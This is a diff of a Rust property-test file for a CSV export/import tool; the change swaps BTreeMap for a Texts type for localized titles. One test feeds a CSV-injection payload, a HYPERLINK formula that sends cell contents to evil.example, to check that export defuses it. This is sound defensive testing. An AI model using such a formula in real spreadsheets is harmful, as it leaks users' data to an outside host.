@@ -1,8 +1,6 @@
 //! export-csv then import-csv gives back the very snapshot it started from, whatever
 //! its ids, texts and languages, and no cell of the export runs as a formula.
 
-use std::collections::BTreeMap;
-
 use dsii_cli::csv_files::cell::{decode, encode};
 use dsii_cli::csv_files::cell_list::{join, split};
 use dsii_cli::csv_files::export::export;
@@ -12,7 +10,7 @@ use dsii_cli::snapshot_json::snapshot_json;
 use dsii_core::model::{
     ActionLine, ActionLineStatus, BudgetItem, CalendarDate, FuzzyDate, HistoryEntry, Milestone,
     MilestoneChange, MilestoneStatus, Pillar, PreviousSnapshot, Publisher, Rescheduling, Snapshot,
-    Source, Text,
+    Source, Text, Texts,
 };
 use dsii_core::validate;
 use proptest::collection::{btree_map, vec};
@@ -68,7 +66,8 @@ fn ids(min: usize, max: usize) -> impl Strategy<Value = Vec<String>> {
 fn text() -> impl Strategy<Value = Text> {
     prop_oneof![
         string().prop_map(Text::Plain),
-        btree_map(select(TAGS).prop_map(str::to_owned), string(), 1..4).prop_map(Text::Localized),
+        btree_map(select(TAGS).prop_map(str::to_owned), string(), 1..4)
+            .prop_map(|texts| Text::Localized(texts.into_iter().collect())),
     ]
 }
 
@@ -408,7 +407,7 @@ fn a_formula_in_a_title_is_defused_in_its_cell_and_still_round_trips() {
     let mut snapshot = validate::load(bytes).unwrap().snapshot;
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
     snapshot.action_lines[0].title = Text::Plain(formula.to_owned());
-    snapshot.action_lines[1].title = Text::Localized(BTreeMap::from([
+    snapshot.action_lines[1].title = Text::Localized(Texts::from([
         ("nl".to_owned(), "+31 70 123".to_owned()),
         ("en".to_owned(), "@SUM(1+1)".to_owned()),
     ]));
@@ -445,7 +444,7 @@ fn plain_and_localized_texts_keep_their_kind_and_empty_texts_stay_present() {
     let bytes = include_bytes!("../../../tests/fixtures/small_monitor.json");
     let mut snapshot = validate::load(bytes).unwrap().snapshot;
     snapshot.pillars[0].summary = Some(Text::Plain(String::new()));
-    snapshot.pillars[1].summary = Some(Text::Localized(BTreeMap::from([(
+    snapshot.pillars[1].summary = Some(Text::Localized(Texts::from([(
         "en".to_owned(),
         String::new(),
     )])));
